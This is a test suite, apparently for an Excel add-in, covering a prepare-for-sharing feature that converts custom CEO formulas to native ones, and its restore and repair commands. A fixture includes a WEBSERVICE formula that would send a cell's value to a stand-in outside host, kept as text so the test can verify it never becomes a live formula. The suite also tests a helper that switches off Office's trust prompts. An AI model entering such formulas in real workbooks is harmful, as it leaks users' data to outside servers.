import assert from "assert";
import { HOLIDAYS_SHEET } from "../../src/core/calendar.formula";
import { blockOf, disableTrustPrompts, ORIGINALS_SHEET, prepareForSharing, readBlocks, repairNames, restoreFormulas } from "../../src/taskpane/shareApply";
import fs from "fs";
import path from "path";
import { applyPlan } from "../../src/taskpane/apply";
import { HEADERS } from "../../src/taskpane/placementsTable";
import { planImport } from "../../src/taskpane/plan";
import { SEED_TERMS, termsLayout } from "../../src/taskpane/terms";
import { writeTermsSheet } from "../../src/taskpane/termsApply";
import { fee, net } from "../../src/functions/fees";
import { assertAgree, engine } from "../native/agree";
import { viaWrapper } from "../support/customFunctions";
import { EXCEL_WEB_REQUEST_LIMIT, FakeWorkbook } from "../support/fakeExcel";
import { convertFormula } from "../../src/taskpane/share";

const FEE = '=CEO.FEE(C2,D2,IF(E2="Other",0.04,""))';

/** A deal sheet as an analyst has it: inputs, CEO formulas (with the values Excel shows), a spilled row, a plain formula. */
function dealBook(): FakeWorkbook {
  const book = new FakeWorkbook();
  const deal = book.addSheet("Deal");
  deal.rows = [
    ["Trade Date", "Shares", "Gross", "Prior", "Agreement", "Fee", "Settles", "Warrants", null, "Total"],
    [37196, 50000, 202000, 0, "Sales", FEE, "=CEO.SETTLE(A2)", "=CEO.WARRANTS(B2,C2/B2)", null, "=SUM(F2:F3)"],
    [37197, 40000, 164000, 202000, "Other", FEE.replace(/2/g, "3"), "=CEO.SETTLE(A3)", "=CEO.FEE(C3,,Tiers)", null, "=J2*2"],
  ];
  deal.values = [[], [null, null, null, null, null, 8080, 37201, 5000, 5.252, 14640], [null, null, null, null, null, 6560, 37202, 123, null, 29280]];
  const notes = book.addSheet("Notes");
  notes.rows = [["No formulas here", 1, "=B1+1"]];
  return book;
}

const sheetRows = (book: FakeWorkbook, name: string) => book.sheets.get(name)!.rows;

describe("shareApply: Prepare for sharing, Restore, Repair through the fake workbook", () => {
  it("Prepare: a copy with native formulas or values, originals on a hidden sheet, holidays, a note; the original untouched", async () => {
    const book = dealBook();
    const before = JSON.stringify(sheetRows(book, "Deal"));
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /Prepared 1 shared copy: 5 CEO formulas now native, 1 kept as values/);
    assert.ok(result.details.some((d) => /"Notes" has no CEO formulas: not copied/.test(d)));
    assert.ok(result.details.some((d) => /H3: value kept \(CEO.FEE: schedule is a table column or a name/.test(d)));
    assert.strictEqual(JSON.stringify(sheetRows(book, "Deal")), before);

    const copy = sheetRows(book, "Deal (shared)");
    const cells = copy.flat().filter((v) => typeof v === "string" && v.startsWith("="));
    assert.ok(cells.every((f) => !/CEO\./.test(String(f).replace(/'CEO Holidays'/g, ""))), cells.join("\n"));
    assert.match(String(copy[1]![6]), /WORKDAY\.INTL\(INT\(A2\),.*'CEO Holidays'!\$D\$2:\$D\$\d+\)/);
    assert.match(String(copy[1]![8]), /1\.3\*/); // the spilled exercise price, in the cell beside
    assert.strictEqual(copy[2]![7], 123); // the value, kept
    assert.strictEqual(copy[1]![9], "=SUM(F2:F3)"); // plain formulas stay
    assert.match(String(copy[0]![11]), /^Copy of "Deal" for sharing \(CEO add-in, 2026-01-05\): 5 CEO formulas replaced by native Excel formulas, 1 by its value\./);

    const originals = book.sheets.get(ORIGINALS_SHEET)!;
    assert.strictEqual(originals.visibility, "Hidden");
    assert.deepStrictEqual(originals.rows[0], ["Sheet", "Cell", "Formula"]);
    // Recorded as text (the quote prefix is an attribute: values and formulas give the text alone, office-js issue 6687).
    assert.deepStrictEqual(["A2", "B2", "C2"].map((a) => book.cell(ORIGINALS_SHEET, a)), ["Deal (shared)", "F2", FEE].map((text) => ({ formula: text, value: text, isFormula: false, quotePrefix: true, numberFormat: "General" })));
    // A cell that was empty is recorded with an empty formula cell.
    assert.ok(originals.rows.some((r) => r[1] === "I2" && (r[2] ?? "") === ""));
    assert.ok(originals.rows.some((r) => r[1] === "L1" && (r[2] ?? "") === ""));
    const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
    assert.deepStrictEqual(holidays.rows[0]!.slice(0, 2), ["Exchange closed (weekdays)", "Reason"]);
    assert.ok(holidays.rows.length > 1000);
  });

  it("Prepare reuses a current CEO Holidays sheet, and refuses a stale or edited one, changing nothing", async () => {
    const book = dealBook();
    assert.ok((await prepareForSharing(book.run)).ok);
    await restoreFormulas(book.run);
    assert.ok((await prepareForSharing(book.run)).ok); // a fresh sheet again
    assert.ok((await prepareForSharing(book.run, { sheets: ["Deal"] })).ok); // the current sheet, reused
    const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
    holidays.rows.splice(5, 1); // an older list, one closure short
    const before = book.snapshot();
    const refused = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.strictEqual(refused.ok, false);
    assert.match(refused.message, /"CEO Holidays" sheet differs from this version's calendar/);
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("Restore puts back exactly the formulas the copy had, and removes the add-in's sheets", async () => {
    const book = dealBook();
    await prepareForSharing(book.run);
    const result = await restoreFormulas(book.run);
    assert.ok(result.ok, result.message);
    assert.match(result.message, /Restored 8 cells on 1 sheet/);
    const expected = dealBook().snapshot() as { sheets: { name: string; rows: unknown[] }[] };
    const now = book.snapshot() as { sheets: { name: string; rows: unknown[] }[] };
    assert.deepStrictEqual(now.sheets.find((s) => s.name === "Deal (shared)")!.rows, expected.sheets.find((s) => s.name === "Deal")!.rows);
    assert.ok(!book.sheets.has(ORIGINALS_SHEET) && !book.sheets.has(HOLIDAYS_SHEET));
    assert.match((await restoreFormulas(book.run)).message, /nothing to restore/);
  });

  it("a sheet whose name Excel would read as a formula (+Deal) is recorded as text, and Restore finds it", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    book.sheets.delete("Deal");
    deal.name = "+Deal";
    book.sheets.set("+Deal", deal);
    await prepareForSharing(book.run, { sheets: ["+Deal"] });
    assert.deepStrictEqual(book.cell(ORIGINALS_SHEET, "A2"), { formula: "+Deal (shared)", value: "+Deal (shared)", isFormula: false, quotePrefix: true, numberFormat: "General" });
    const result = await restoreFormulas(book.run);
    assert.match(result.message, /Restored 8 cells on 1 sheet/);
    assert.strictEqual(book.sheets.get("+Deal (shared)")!.rows[1]![5], FEE);
  });

  it("Prepare twice: a second copy, originals appended; Restore restores both", async () => {
    const book = dealBook();
    await prepareForSharing(book.run, { sheets: ["Deal"] });
    await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.ok(book.sheets.has("Deal (shared)") && book.sheets.has("Deal (shared 2)"));
    const rows = book.sheets.get(ORIGINALS_SHEET)!.rows.filter((r) => r?.[0]);
    assert.strictEqual(rows.length, 1 + 2 * 8);
    assert.match((await restoreFormulas(book.run)).message, /Restored 16 cells on 2 sheets/);
  });

  it("bad input: no CEO formulas, a protected sheet, a missing sheet: a message, nothing changed", async () => {
    const book = dealBook();
    const before = book.snapshot();
    const none = await prepareForSharing(book.run, { sheets: ["Notes"] });
    assert.deepStrictEqual([none.ok, none.message], [false, 'No CEO formulas on "Notes": nothing to prepare, nothing was changed.']);
    book.sheets.get("Deal")!.protected = true;
    const locked = await prepareForSharing(book.run);
    assert.match(locked.message, /Protected sheet "Deal": unprotect first/);
    assert.match((await prepareForSharing(book.run, { sheets: ["Nope"] })).message, /No sheet named "Nope"/);
    book.sheets.get("Deal")!.protected = false;
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("a failure at any request of Prepare leaves the workbook as it was (first Prepare, and with originals already there)", async () => {
    for (const second of [false, true]) {
      const setUp = async () => {
        const book = dealBook();
        if (second) await prepareForSharing(book.run, { sheets: ["Deal"] });
        book.requests = 0;
        return book;
      };
      const probe = await setUp();
      await prepareForSharing(probe.run, { chunkBytes: 2000 });
      const total = probe.requests;
      assert.ok(total >= 6, `only ${total} requests`);
      for (let k = 1; k <= total; k++) {
        const book = await setUp();
        const before = book.snapshot();
        book.failAtRequest = k;
        await assert.rejects(prepareForSharing(book.run, { chunkBytes: 2000 }), /injected failure/);
        assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${total} left a change`);
      }
    }
  });

  it("a failure at any request of Restore leaves the workbook as it was", async () => {
    const setUp = async () => {
      const book = dealBook();
      await prepareForSharing(book.run);
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    await restoreFormulas(probe.run, { chunkBytes: 300 });
    const total = probe.requests;
    for (let k = 1; k < total; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${total} left a change`);
    }
    // The last request only tidies up the holidays sheet once the formulas are back.
    const book = await setUp();
    book.failAtRequest = total;
    const result = await restoreFormulas(book.run, { chunkBytes: 300 });
    assert.ok(result.ok && /could not be removed/.test(result.details.join()));
    assert.ok(book.sheets.has(HOLIDAYS_SHEET) && !book.sheets.has(ORIGINALS_SHEET));
  });

  it("Repair re-enters exactly the CEO formulas that show #NAME?", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.values![1]![5] = "#NAME?";
    deal.values![2]![6] = "#NAME?";
    deal.values![2]![9] = "#NAME?"; // a plain formula showing #NAME?: not the add-in's
    const result = await repairNames(book.run);
    assert.deepStrictEqual([result.ok, result.message], [true, "Re-entered 2 CEO formulas that showed #NAME?."]);
    assert.deepStrictEqual(result.details, ['"Deal": F2, G3']);
    assert.deepStrictEqual([deal.values![1]![5], deal.values![2]![6], deal.values![2]![9]], [undefined, undefined, "#NAME?"]);
    assert.strictEqual(deal.rows[1]![5], FEE);
    assert.match((await repairNames(book.run)).message, /nothing to repair/);
  });

  it("a sheet of 300,000 cells (13 MB as one read) is read in row blocks, every response under 5 MB; Prepare, Repair and Restore give the same", async () => {
    const book = new FakeWorkbook();
    const big = book.addSheet("Big");
    const note = (r: number, c: number) => `note ${r}-${c} `.padEnd(30, ".");
    const fee = (r: number) => `=CEO.FEE(C${r},D${r},IF(E${r}="Other",0.04,""))`;
    const ROWS = 30_000;
    big.rows = Array.from({ length: ROWS }, (_, i) => [37196, 50000, 202000, 0, "Sales", fee(i + 1), ...Array.from({ length: 4 }, (_, c) => note(i, c))]);
    big.values = big.rows.map((row) => row.map((v, c) => (c === 5 ? 8080 : v)));
    const original = JSON.stringify(big.rows);
    const cells = ROWS * 10;
    assert.ok(JSON.stringify(big.rows).length * 2 > 2 * EXCEL_WEB_REQUEST_LIMIT, "a one-request read of formulas and values would be refused");

    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /30000 CEO formulas now native/);
    const reads = book.responseBytes.filter((b) => b > 0);
    assert.ok(reads.length >= 2 * Math.ceil((cells * 60) / EXCEL_WEB_REQUEST_LIMIT), `${reads.length} reads`);
    assert.ok(Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT, `largest response ${Math.max(...book.responseBytes)}`);
    assert.ok(Math.max(...book.requestBytes) < EXCEL_WEB_REQUEST_LIMIT);
    // Every cell of the copy read: each fee native, everything else as it was.
    const copy = sheetRows(book, "Big (shared)");
    assert.strictEqual(copy.length, ROWS);
    copy.forEach((row, i) => {
      assert.strictEqual(row[5], (convertFormula(fee(i + 1)) as { formula: string }).formula, `F${i + 1}`);
      assert.deepStrictEqual([...row.slice(0, 5), ...row.slice(6, 10)], [...big.rows[i]!.slice(0, 5), ...big.rows[i]!.slice(6)], `row ${i + 1}`);
    });
    assert.strictEqual(book.sheets.get(ORIGINALS_SHEET)!.rows.filter((r) => r?.[0] === "Big (shared)").length, ROWS + 1); // the fees and the note

    // Repair reads the whole workbook too: the #NAME? cells are found wherever the blocks split.
    for (const r of [0, 9_999, 10_000, 29_999]) big.values![r]![5] = "#NAME?";
    book.responseBytes = [];
    const repaired = await repairNames(book.run);
    assert.strictEqual(repaired.message, "Re-entered 4 CEO formulas that showed #NAME?.");
    assert.deepStrictEqual(repaired.details, ['"Big": F1, F10000, F10001, F30000']);
    assert.ok(book.responseBytes.filter((b) => b > 0).length > 2 && Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT);

    book.responseBytes = [];
    const restored = await restoreFormulas(book.run);
    assert.ok(restored.ok, restored.message);
    assert.strictEqual(restored.message, "Restored 30001 cells on 1 sheet: the CEO formulas are back.");
    // The note cell (L1) is emptied again; every other cell holds its CEO formula or value as before.
    assert.deepStrictEqual([...sheetRows(book, "Big (shared)")[0]!.slice(10)].map((v) => v ?? ""), ["", ""]);
    assert.ok(JSON.stringify(sheetRows(book, "Big (shared)").map((row) => row.slice(0, 10))) === original, "the copy is as before Prepare");
    assert.ok(JSON.stringify(sheetRows(book, "Big")) === original, "the original untouched");
    assert.ok(Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT);
  });

  it("readBlocks: a response Excel refuses as too large is read again in smaller blocks; the cells are the same", async () => {
    const book = new FakeWorkbook();
    const wide = book.addSheet("Wide");
    wide.rows = Array.from({ length: 3_000 }, (_, r) => Array.from({ length: 5 }, (_, c) => `${r},${c}:`.padEnd(2_000, "x")));
    const grids = await book.run((context) => readBlocks(context, [blockOf("Wide", "Wide!A1:E3000"), blockOf("Wide", "B3:C4")], ["values"]));
    assert.deepStrictEqual(grids[0]!.values, wide.rows);
    assert.deepStrictEqual(grids[1]!.values, [wide.rows[2]!.slice(1, 3), wide.rows[3]!.slice(1, 3)]);
    assert.ok(book.responseBytes.some((b) => b > EXCEL_WEB_REQUEST_LIMIT), "the first read was refused");
    assert.ok(book.responseBytes.filter((b) => b > 0 && b <= EXCEL_WEB_REQUEST_LIMIT).length >= 5);
  });

  it("Office.DisableTrustUX is set and saved in the document's settings where Office has them", async () => {
    const saved: Record<string, unknown> = {};
    const office = { context: { document: { settings: { set: (k: string, v: unknown) => (saved[k] = v), saveAsync: (cb: (r: { status: string }) => void) => cb({ status: "succeeded" }) } } } };
    assert.strictEqual(await disableTrustPrompts(office as any), true);
    assert.deepStrictEqual(saved, { "Office.DisableTrustUX": true });
    assert.strictEqual(await disableTrustPrompts(undefined), false);
  });

  it("a Placements table reading the Terms sheet's names: Fee and Net become native formulas that agree with the core", async () => {
    const book = new FakeWorkbook();
    const statement = planImport(fs.readFileSync(path.resolve(__dirname, "../../examples/neot-2001-agent-statement.csv"), "utf8"));
    await writeTermsSheet(book.run, SEED_TERMS);
    await applyPlan(book.run, statement.rows, { terms: SEED_TERMS });
    const result = await prepareForSharing(book.run, { sheets: ["Placements"] });
    assert.ok(result.ok, result.message);
    const copy = sheetRows(book, "Placements (shared)");
    const table = book.tableValues("Placements");
    const [feeAt, netAt, grossAt, agreementAt] = ["Fee", "Net", "Gross", "Agreement"].map((h) => HEADERS.indexOf(h)) as [number, number, number, number];
    // The Terms sheet in the engine, as writeTermsSheet lays it out.
    const e = engine();
    const hf = e.hf;
    if (!hf.doesSheetExist("Terms")) hf.addSheet("Terms");
    const terms = hf.getSheetId("Terms")!;
    hf.setSheetContent(terms, termsLayout(SEED_TERMS).cells as any);
    const schedules = Object.fromEntries(SEED_TERMS.agreements.map((a) => [a.name, a.tiers.map((t) => [t.from, t.rate])]));
    let prior: Record<string, number> = {};
    for (let r = 1; r <= table.length; r++) {
      const row = copy[r]!;
      for (const at of [feeAt, netAt]) {
        assert.ok(typeof row[at] === "string" && /^=IF\(/.test(row[at] as string) && !/CEO\.|_Schedule/.test(row[at] as string), `row ${r}: ${String(row[at])}`);
      }
      if (r > 12) continue; // a few rows through the engine
      const gross = table[r - 1]![grossAt] as number;
      const agreement = String(table[r - 1]![agreementAt]);
      const before = prior[agreement] ?? 0;
      prior = { ...prior, [agreement]: before + gross };
      // The structured references of the row, as cells of the Inputs sheet.
      const cells = (f: string) => f.replace(/\[@Gross\]/g, "A1").replace(/\[@\[Prior Gross\]\]/g, "B1").replace(/\[@Agreement\]/g, "C1");
      e.clear();
      e.set(0, 0, [[gross, before, agreement]]);
      assertAgree(`Fee row ${r}`, e.evaluate(cells(row[feeAt] as string)), viaWrapper(() => fee(gross, before, schedules[agreement] as any)), "exact");
      assertAgree(`Net row ${r}`, e.evaluate(cells(row[netAt] as string)), viaWrapper(() => net(gross, before, schedules[agreement] as any)), "exact");
    }
    assert.ok(/Terms/.test(result.details.join("\n")), result.details.join("\n"));
  });
});

/** Writes cells through the API, as the import and the analyst do: "'..." is text (Excel's quote prefix). */
async function enter(book: FakeWorkbook, sheet: string, address: string, contents: unknown[][]): Promise<void> {
  await book.run(async (context) => {
    context.workbook.worksheets.getItem(sheet).getRange(address).values = contents;
    await context.sync();
  });
}

/** The deal sheet with a Notes column the import wrote as text, and a CEO formula kept by its value whose value is text. */
async function notesBook(): Promise<FakeWorkbook> {
  const book = dealBook();
  await enter(book, "Deal", "K1:K3", [["Notes"], ['\'=WEBSERVICE("http://x/?q="&Deal!C2)'], ["'=CEO.FEE(1)"]]);
  const deal = book.sheets.get("Deal")!;
  // No native formula (a name for the schedule): the copy keeps what the cell shows, the text "06560".
  deal.rows[2]![7] = '=TEXT(CEO.FEE(C3,,Tiers),"00000")';
  deal.values![2]![7] = "06560";
  return book;
}

describe("shareApply: text stays text, in the copy, on the originals sheet and back", () => {
  it("Prepare leaves a Notes cell holding =WEBSERVICE(...) or =CEO.FEE(1) as text, and keeps a text value as text", async () => {
    const book = await notesBook();
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /5 CEO formulas now native, 1 kept as values/);
    for (const [address, text] of [["K2", '=WEBSERVICE("http://x/?q="&Deal!C2)'], ["K3", "=CEO.FEE(1)"], ["H3", "06560"]] as const) {
      const cell = book.cell("Deal (shared)", address);
      assert.deepStrictEqual([cell.isFormula, cell.formula, cell.value], [false, text, text], address);
    }
    assert.ok(!book.sheets.get(ORIGINALS_SHEET)!.rows.some((r) => r?.[1] === "K2" || r?.[1] === "K3"), "text cells are not recorded: nothing was changed there");
    // Restore gives back the formula, the text cells untouched.
    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells on 1 sheet/);
    assert.deepStrictEqual(["K2", "K3"].map((a) => book.cell("Deal (shared)", a).isFormula), [false, false]);
    assert.deepStrictEqual(book.cell("Deal (shared)", "H3").formula, '=TEXT(CEO.FEE(C3,,Tiers),"00000")');
  });

  it("a failure at any request of Restore, after a Prepare that kept text, leaves the workbook as it was", async () => {
    const setUp = async () => {
      const book = await notesBook();
      await prepareForSharing(book.run);
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    await restoreFormulas(probe.run, { chunkBytes: 300 });
    for (let k = 1; k < probe.requests; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });

  it("a failure at any request of Restore puts back what the copy held: text that reads like a formula or a number stays text", async () => {
    // The copy as Prepare leaves it: kept values that are text ("06560", "=CEO.FEE(1)"), a native formula; their originals recorded.
    const setUp = async () => {
      const book = new FakeWorkbook();
      book.addSheet("Deal (shared)");
      book.addSheet(ORIGINALS_SHEET);
      await enter(book, "Deal (shared)", "A1:D1", [[5_000_000, "'06560", "'=CEO.FEE(1)", "=A1*0.04"]]);
      await enter(book, ORIGINALS_SHEET, "A1:C4", [
        ["Sheet", "Cell", "Formula"],
        ["'Deal (shared)", "'B1", `'=TEXT(CEO.FEE(A1,,Tiers),"00000")`],
        ["'Deal (shared)", "'C1", `'=IF(A1>0,"=CEO.FEE(1)",CEO.FEE(A1,,Tiers))`],
        ["'Deal (shared)", "'D1", "'=CEO.FEE(A1)"],
      ]);
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    assert.match((await restoreFormulas(probe.run, { chunkBytes: 60 })).message, /Restored 3 cells/);
    assert.ok(probe.requests >= 4, `${probe.requests} requests`);
    for (let k = 1; k < probe.requests; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 60 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });

  it("Restore writes a recorded entry that is not a formula (an older or edited record) as the text it is", async () => {
    const book = dealBook();
    await prepareForSharing(book.run, { sheets: ["Deal"] });
    const originals = book.sheets.get(ORIGINALS_SHEET)!;
    const at = originals.rows.findIndex((r) => r?.[1] === "L1");
    await enter(book, ORIGINALS_SHEET, `C${at + 1}`, [["'00123"]]);
    assert.ok((await restoreFormulas(book.run)).ok);
    const cell = book.cell("Deal (shared)", "L1");
    assert.deepStrictEqual([cell.isFormula, cell.value], [false, "00123"]);
  });
});

describe("shareApply: Prepare and Excel's calculation", () => {
  let putBack: (() => void) | undefined;
  afterEach(() => {
    putBack?.();
    putBack = undefined;
  });

  it("refuses a workbook in manual calculation, saying how to switch; nothing changed", async () => {
    const book = dealBook();
    book.calculationMode = "Manual";
    const before = book.snapshot();
    const result = await prepareForSharing(book.run);
    assert.strictEqual(result.ok, false);
    assert.match(result.message, /calculates this workbook manually.*Formulas > Calculation Options > Automatic.*Nothing was changed\./);
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("waits for a calculation to finish (ExcelApi 1.9), then prepares", async () => {
    const book = dealBook();
    putBack = book.installOffice({ ExcelApi: "1.9" });
    book.calculationState = ["Calculating", "Pending", "Calculating", "Done"];
    const result = await prepareForSharing(book.run, { calculationWait: { looks: 10, delayMs: 1 } });
    assert.ok(result.ok, result.message);
    assert.deepStrictEqual(book.calculationState, ["Done"]);
  });

  it("refuses a workbook that keeps calculating, or has changes pending; nothing changed", async () => {
    for (const state of ["Calculating", "Pending"]) {
      const book = dealBook();
      putBack = book.installOffice({ ExcelApi: "1.9" });
      book.calculationState = state;
      const before = book.snapshot();
      const result = await prepareForSharing(book.run, { calculationWait: { looks: 3, delayMs: 1 } });
      putBack();
      assert.strictEqual(result.ok, false);
      assert.strictEqual(result.message, `Excel is still calculating (${state}): the values Prepare would keep are not final yet. Wait until the status bar no longer shows "Calculating", then prepare again. Nothing was changed.`);
      assert.deepStrictEqual(book.snapshot(), before);
    }
  });

  it("below ExcelApi 1.9 the state is not asked for (the host has no such property)", async () => {
    const book = dealBook();
    putBack = book.installOffice({ ExcelApi: "1.8" });
    book.calculationState = "Calculating"; // unknowable here: an automatic workbook is taken as calculated
    assert.ok((await prepareForSharing(book.run)).ok);
  });
});

describe("shareApply: values Excel takes, formulas Excel refuses", () => {
  it("a kept #SPILL! is written =NA() (no #SPILL! literal in a formula), the details naming the error", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.values![2]![7] = "#SPILL!";
    deal.values![1]![9] = "#CALC!"; // J2 =SUM(F2:F3): a plain formula, untouched
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.strictEqual(book.cell("Deal (shared)", "H3").formula, "=NA()");
    assert.ok(result.details.some((d) => /H3: value kept \(CEO.FEE: schedule .*; it showed #SPILL!, written as =NA\(\): Excel takes no #SPILL! typed in a formula\)/.test(d)), result.details.join("\n"));
    assert.strictEqual(book.cell("Deal (shared)", "J2").formula, "=SUM(F2:F3)");
  });

  it("a native formula nesting functions over 64 levels keeps the cell's value instead of failing the command", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.rows[1]![10] = `=${"ABS(".repeat(62)}CEO.FEE(C2)${")".repeat(62)}`;
    deal.values![1]![10] = 8080;
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.strictEqual(book.cell("Deal (shared)", "K2").formula, 8080);
    assert.ok(result.details.some((d) => /K2: value kept \(the native formula nests functions 66 levels deep: Excel takes 64\)/.test(d)), result.details.join("\n"));
  });

  it("a formula Excel refuses when written (its internal length) is retried cell by cell: that cell keeps its value, the others are native", async () => {
    const book = dealBook();
    book.refuses = (formula) => (formula.includes("WORKDAY.INTL") ? "the formula is too long in Excel's internal form" : undefined);
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /Prepared 1 shared copy: 3 CEO formulas now native, 3 kept as values/);
    assert.deepStrictEqual(["G2", "G3"].map((a) => book.cell("Deal (shared)", a).formula), [37201, 37202]);
    assert.match(String(book.cell("Deal (shared)", "F2").formula), /^=IF\(OR\(C2<0,/);
    assert.ok(result.details.some((d) => /"Deal \(shared\)" G2: value kept \(Excel refused the native formula: .*too long in Excel's internal form\)/.test(d)), result.details.join("\n"));
    assert.match(String(book.cell("Deal (shared)", "L1").value), /3 CEO formulas replaced by native Excel formulas, 3 by their values/);
    // Restore knows those cells too.
    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells/);
    assert.strictEqual(book.cell("Deal (shared)", "G2").formula, "=CEO.SETTLE(A2)");
  });

  it("any other failure, also while refused cells are written again, still fails the command and undoes it", async () => {
    const setUp = () => {
      const book = dealBook();
      book.refuses = (formula) => (formula.includes("WORKDAY.INTL") ? "refused" : undefined);
      return book;
    };
    const probe = setUp();
    assert.ok((await prepareForSharing(probe.run, { chunkBytes: 2000 })).ok);
    assert.ok(probe.requests >= 12, `${probe.requests} requests`);
    for (let k = 1; k <= probe.requests; k++) {
      const book = setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(prepareForSharing(book.run, { chunkBytes: 2000 }), /injected failure/, `request ${k}`);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });
});

